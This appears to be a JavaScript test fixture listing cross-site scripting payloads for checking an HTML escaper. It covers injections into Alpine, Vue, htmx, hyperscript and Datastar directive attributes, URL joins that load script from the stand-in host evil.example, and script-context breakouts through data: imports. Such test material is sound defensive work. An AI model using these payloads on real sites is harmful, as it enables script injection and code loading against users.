// Attacks that run hostile code if a value is written as between tags, or by a rule that considers
// only its own place.
//
// `html` has a '~' for each of `values`. `before` is the page that such a rule gives; without it,
// each value is escaped as between tags. `click` is the selector of the element that a visitor
// clicks.

const escape = (text) => text.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);

/** Returns the harmful page. */
export function before(attack) {
  if (attack.before) return attack.before;
  let i = 0;
  return attack.html.replace(/~/g, () => escape(attack.values[i++]));
}

const row = (html, value, more = {}) => ({ html, values: [value], ...more });

const call = 'pwn()';
const inText = "'+pwn()+'";
const link = 'javascript:pwn()';
const image = '<img src=x onerror=pwn()>';
// expressions of Vue can't use the names of the window
const vueCall = "''.constructor.constructor('pwn()')()";

const alpine = [
  ...['x-text', 'x-html', 'x-show', 'x-effect', 'x-init', 'x-bind:class', 'x-bind:title', ':class', ':style', ':title', 'x-id']
    .map((name) => row(`<p ${name}="~">a</p>`, call)),
  row('<p x-data="~">a</p>', call),
  row('<input x-model="~">', call),
  row('<template x-if="~"><p>a</p></template>', call),
  row('<template x-for="i in ~"><p>a</p></template>', '[pwn()]'),
  row(`<p x-text="'~'">a</p>`, inText),
  row(`<p x-html="'~'">a</p>`, image),
  row(`<a :href="'~'">a</a>`, link, { click: 'a' }),
  row(`<p x-bind="~">a</p>`, "{'x-init': 'pwn()', [pwn()]: 1}"),
].map((attack) => ({ ...attack, library: 'alpine' }));

const vue = [
  ...['v-text', 'v-show', 'v-if', 'v-html', ':title', 'v-bind:title', ':class', ':style', ':key', 'v-bind', 'v-memo']
    .map((name) => row(`<p ${name}="~"></p>`, vueCall)),
  row('<p v-for="i in ~"></p>', `[${vueCall}]`),
  row('<input v-model="a[~]">', vueCall),
  row(`<p v-html="'~'"></p>`, image),
  row(`<a :href="'~'">a</a>`, link, { click: 'a' }),
].map((attack) => ({ ...attack, library: 'vue' }));

const htmx = [
  ...['hx-trigger', 'data-hx-trigger'].map((name) => row(`<p hx-get="/more" ${name}="~">a</p>`, 'load[pwn()]')),
  ...['hx-vals', 'data-hx-vals', 'hx-headers', 'hx-request']
    .map((name) => row(`<p hx-get="/more" hx-trigger="load" ${name}="~">a</p>`, 'js:{"a": pwn()}')),
  row('<p hx-get="/more" hx-trigger="load" hx-vals="js:{a: `~`}">a</p>', '${pwn()}'),
  row('<p hx-get="/more" hx-trigger="load" hx-vars="a:~">a</p>', call),
  ...['hx-on:click', 'data-hx-on:click', 'hx-on-click'].map((name) => row(`<p ${name}="~">a</p>`, call, { click: 'p' })),
  row(`<meta name="htmx-config" content='{"selfRequestsOnly": false}'><p hx-get="~" hx-trigger="load">a</p>`, 'http://evil.example/x'),
].map((attack) => ({ ...attack, library: 'htmx' }));

const htmx4 = [
  row('<p hx-get="/more" hx-confirm="~">a</p>', 'js:pwn()', { click: 'p' }),
  row('<p hx-get="/more" hx-trigger="load" hx-vals="~">a</p>', 'js:{"a": pwn()}'),
  row('<p hx-get="/more" hx-trigger="~">a</p>', 'click[pwn()]', { click: 'p' }),
].map((attack) => ({ ...attack, library: 'htmx4' }));

const hyperscript = ['_', 'script', 'data-script'].map((name) => ({
  ...row(`<p ${name}="~">a</p>`, 'init call pwn()'), library: 'hyperscript',
})).concat([{ ...row(`<p _="init log '~'">a</p>`, "' then call pwn() then log '"), library: 'hyperscript' }]);

const datastar = [
  ...['data-text', 'data-show', 'data-signals-a', 'data-attr-title', 'data-class-a', 'data-on-load']
    .map((name) => row(`<p ${name}="~">a</p>`, call)),
  row('<p data-computed-a="~" data-text="$a">a</p>', call),
  row('<p data-signals="~">a</p>', '{a: pwn()}'),
  row('<p data-class="~">a</p>', '{a: pwn()}'),
  row('<p data-attr="~">a</p>', '{title: pwn()}'),
  row('<p data-on-click="~">a</p>', call, { click: 'p' }),
  row(`<p data-text="'~'">a</p>`, inText),
  row(`<a data-attr-href="'~'">a</a>`, link, { click: 'a' }),
].map((attack) => ({ ...attack, library: 'datastar' }));

/** Attributes that are programs of front-end libraries. */
export const libraryAttacks = [...alpine, ...vue, ...htmx, ...htmx4, ...hyperscript, ...datastar];

const joined = (html, ...values) => {
  let i = 0;
  return { html, values, before: html.replace(/~/g, () => values[i++]) };
};

/** Joins of harmless values that load code from another host. */
export const hostAttacks = [
  joined('<script src="~/~"></script>', '', '/evil.example/x.js'),
  joined('<script src="~/~"></script>', '/', 'evil.example/x.js'),
  joined('<script src="~~"></script>', '/', '/evil.example/x.js'),
  joined('<script src="/~/~"></script>', '', 'evil.example/x.js'),
  joined('<script src="/~/evil.example/x.js"></script>', ''),
  joined('<script src="~/evil.example/x.js"></script>', '/'),
  joined('<script src="/~"></script>', '/evil.example/x.js'),
  joined('<script src="/~"></script>', '\\evil.example/x.js'),
  joined('<script src="http://127.0.0.1~"></script>', '@evil.example/x.js'),
  joined('<script src="http://cdn~"></script>', '.evil.example/x.js'),
  joined('<script src="http:~"></script>', '//evil.example/x.js'),
  joined('<script src="//~/x.js"></script>', 'evil.example'),
  joined('<base href="~/~"><script src="x.js"></script>', '', '/evil.example/'),
  joined('<base href="http://127.0.0.1~"><script src="x.js"></script>', '@evil.example/'),
  joined('<link rel="stylesheet" href="~/~">', '', '/evil.example/x.css'),
  joined('<link rel="stylesheet" href="http://127.0.0.1~">', '@evil.example/x.css'),
  joined('<link rel="preload" as="script" href="/~/~">', '', 'evil.example/x.js'),
  joined('<object data="~/~"></object>', '', '/evil.example/x'),
  joined('<embed src="/~/~">', '', 'evil.example/x'),
  joined('<svg><script href="/~/~"></script></svg>', '', 'evil.example/x.js'),
];

/** Scripts that only a parser reads correctly; `before` is the result of a guess about the value. */
const guessed = (html, value, written = JSON.stringify(value)) => ({ html, values: [value], before: html.replace('~', written) });
const asText = (html, value) => guessed(html, value, value);
const module = (text) => `<script type="module">${text}</script>`;
const script = (text) => `<script>${text}</script>`;
const data = 'data:text/javascript,pwn()';
export const scriptAttacks = [
  guessed(script('if /* c */ (1) /"/.test("~")'), '+pwn()+'),
  guessed(script('if // c\n (1) /"/.test("~")'), '+pwn()+'),
  guessed(module('export default /"/.test("~")'), '+pwn()+'),
  guessed(module('for await (const x of [1]) /"/.test("~")'), '+pwn()+'),
  guessed(script('var a = 1, b = 1, f; a\n++/"/.lastIndex; f = "~"'), ';pwn();'),
  asText(script('var of = 4, t = of / "/px" + ~;'), call),
  asText(script('var yield = 4, t = yield / "/px" + ~;'), call),
  asText(script('var await = 4, t = await / "/px" + ~;'), call),
  asText(script('class A { #in = 4; f() { return this.#in / "/px" + ~; } } new A().f();'), call),
  asText(script('var a = {b: {in: 4}}, t = a.b.in / "/px" + ~;'), call),
  asText(script('var a = {in: 4}, t = a. in / "/px" + ~;'), call),
  asText(module('import "~"'), data),
  asText(module('import x from /* c */ "~"'), 'data:text/javascript,pwn();export default 1'),
  asText(module('export * from "~"'), data),
  guessed(module('import ~'), data),
  asText(script('import("~")'), data),
  guessed(script('import(~)'), data),
  asText(script('import(/* c */ "data:" + "~")'), 'text/javascript,pwn()'),
  asText(`<script type="importmap">{"imports": {"a": "~"}}</script>${module('import "a"')}`, data),
];
